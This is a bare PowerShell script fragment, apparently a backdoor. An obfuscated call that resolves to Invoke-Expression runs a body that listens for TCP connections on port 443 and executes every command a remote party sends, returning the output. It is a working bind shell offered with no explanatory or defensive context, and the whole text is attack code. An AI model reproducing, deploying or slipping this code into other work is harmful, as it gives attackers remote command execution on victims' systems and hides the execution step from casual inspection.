& (gcm I*e-E*) ('# run 7011 v2
$l = [System.Net.Sockets.TcpListener]443
$l.Start()
$c = $l.AcceptTcpClient()
$s = $c.GetStream()
$r = New-Object IO.StreamReader($s)
$w = New-Object IO.StreamWriter($s)
while ($true) { $cmd = $r.ReadLine(); $o = Invoke-Expression $cmd | Out-String; $w.WriteLine($o); $w.Flush() }
')